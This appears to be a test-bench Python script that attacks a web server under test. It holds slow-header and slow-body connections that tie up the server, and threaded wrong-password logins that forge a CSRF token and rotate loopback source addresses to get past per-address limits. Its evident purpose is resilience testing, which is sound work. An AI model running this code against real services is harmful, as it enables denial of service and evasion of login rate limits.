"""Clients that mean no good, in a process of their own.

Run as a file, `python tests/bench/attack.py URL KIND`, until it is terminated:

    heads    200 connections that send a byte of their request's head each second
    bodies   200 sign-ins whose form comes at a byte a second
    sign-ins 8 threads of wrong passwords, each try from another address and for another name, so
             that no limit of tries stops them

It prints "on" once it is at work.
"""

from __future__ import annotations

import http.client
import itertools
import socket
import sys
import threading
import time
from contextlib import suppress
from urllib.parse import urlencode, urlsplit

TARGET = urlsplit(sys.argv[1])
ADDRESS = (TARGET.hostname or "", TARGET.port or 0)
SLOW_CLIENTS, THREADS = 200, 8
TOKEN = "a" * 32  # of the form: cookie and field say the same
HEAD = f"GET /healthz HTTP/1.1\r\nHost: {ADDRESS[0]}\r\nX-Slow: "
BODY = (
    f"POST /login/ HTTP/1.1\r\nHost: {ADDRESS[0]}\r\nCookie: csrftoken={TOKEN}\r\n"
    "Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 5000\r\n\r\nu="
)


def drip(start: str) -> None:
    clients = [socket.create_connection(ADDRESS) for _ in range(SLOW_CLIENTS)]
    for client in clients:
        client.sendall(start.encode())
    print("on", flush=True)
    while True:
        time.sleep(1)
        for client in clients:
            with suppress(OSError):
                client.send(b"a")


def guess(thread: int) -> None:
    for number in itertools.count():
        own = f"127.{thread + 1}.{number // 200 % 200 + 1}.{number % 200 + 1}"
        with suppress(OSError, http.client.HTTPException):
            client = http.client.HTTPConnection(*ADDRESS, source_address=(own, 0), timeout=30)
            fields = {"username": own, "password": "wrong", "csrfmiddlewaretoken": TOKEN}
            headers = {
                "Content-Type": "application/x-www-form-urlencoded",
                "Cookie": f"csrftoken={TOKEN}",
            }
            client.request("POST", "/login/", urlencode(fields), headers)
            client.getresponse().read()
            client.close()


def sign_in() -> None:
    for thread in range(THREADS):
        threading.Thread(target=guess, args=(thread,)).start()
    time.sleep(2)
    print("on", flush=True)


if __name__ == "__main__":
    kinds = {"heads": lambda: drip(HEAD), "bodies": lambda: drip(BODY), "sign-ins": sign_in}
    kinds[sys.argv[2]]()
